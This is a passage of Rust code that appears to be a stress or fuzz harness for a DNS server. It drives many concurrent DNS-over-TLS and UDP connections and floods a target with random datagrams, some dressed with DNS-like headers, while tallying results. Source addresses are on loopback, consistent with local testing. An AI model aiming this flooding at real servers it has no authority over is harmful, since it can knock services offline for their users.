    t.opened.fetch_add(1, Relaxed);
    let flight = Arc::new(flight);
    let mut tasks = Vec::new();
    for i in 0..plan.conns {
        let (plan, t, flight) = (plan.clone(), t.clone(), flight.clone());
        tasks.push(tokio::task::spawn_local(async move {
            let lane = async {
                loop {
                    let bytes: usize = flight.iter().map(Vec::len).sum();
                    if proto == Proto::Dot {
                        let Ok(mut s) = tcp(i, &plan).await else {
                            t.failed.fetch_add(1, Relaxed);
                            tokio::time::sleep(Duration::from_millis(50)).await;
                            continue;
                        };
                        if s.write_all(&flight[0]).await.is_err() {
                            continue;
                        }
                        t.sent.fetch_add(1, Relaxed);
                        t.bytes.fetch_add(bytes as u64, Relaxed);
                        if tokio::time::timeout(plan.interval, until_closed(&mut s)).await.is_ok() {
                            t.closed_by_server.fetch_add(1, Relaxed);
                        }
                    } else {
                        let src = Ipv4Addr::new(127, 0, 0, 1 + (i % plan.sources.max(1) as usize) as u8);
                        let Ok(s) = tokio::net::UdpSocket::bind((src, 0)).await else { continue };
                        for d in flight.iter() {
                            let _ = s.send_to(d, target).await;
                        }
                        t.sent.fetch_add(1, Relaxed);
                        t.bytes.fetch_add(bytes as u64, Relaxed);
                        let mut buf = vec![0u8; 2048];
                        let end = tokio::time::Instant::now() + plan.interval;
                        while let Ok(Ok(_)) = tokio::time::timeout_at(end, s.recv(&mut buf)).await {
                            t.responses.fetch_add(1, Relaxed);
                        }
                    }
                }
            };
            let _ = tokio::time::timeout_at(deadline.into(), lane).await;
        }));
    }
    for task in tasks {
        let _ = task.await;
    }
}

// ---------------------------------------------------------------------------------------
// UDP

/// xorshift64*: cheap bytes that are not all alike.
fn next(state: &mut u64) -> u64 {
    *state ^= *state >> 12;
    *state ^= *state << 25;
    *state ^= *state >> 27;
    state.wrapping_mul(0x2545_F491_4F6C_DD1D)
}

async fn udp_garbage(plan: &Plan, t: &Tally, deadline: Instant) {
    let mut socks = Vec::new();
    for i in 0..plan.conns.max(1) {
        let src = Ipv4Addr::new(127, 0, 0, 1 + (i % plan.sources.max(1) as usize) as u8);
        if let Ok(s) = std::net::UdpSocket::bind((src, 0)) {
            let _ = s.set_nonblocking(true);
            socks.push(s);
        }
    }
    let mut st = 0x9E37_79B9_7F4A_7C15u64;
    let mut buf = [0u8; 600];
    let mut n = 0u64;
    while Instant::now() < deadline {
        for s in &socks {
            let r = next(&mut st);
            let len = (r % 600) as usize;
            for chunk in buf[..len].chunks_mut(8) {
                let v = next(&mut st).to_le_bytes();
                chunk.copy_from_slice(&v[..chunk.len()]);
            }
            // Some look like queries: a plausible header, nonsense after it.
            if r & 3 == 0 && len >= 12 {
                buf[2] = 0x01;
                buf[3] = 0;
                buf[4] = 0;
                buf[5] = 1 + (r >> 8) as u8 % 4;
            }
            match s.send_to(&buf[..len], plan.target) {
                Ok(_) => {
                    t.sent.fetch_add(1, Relaxed);
                    t.bytes.fetch_add(len as u64, Relaxed);
                }
                Err(_) => tokio::task::yield_now().await,
            }
            n += 1;
            if n.is_multiple_of(256) {
                tokio::task::yield_now().await;
            }
        }
    }
}
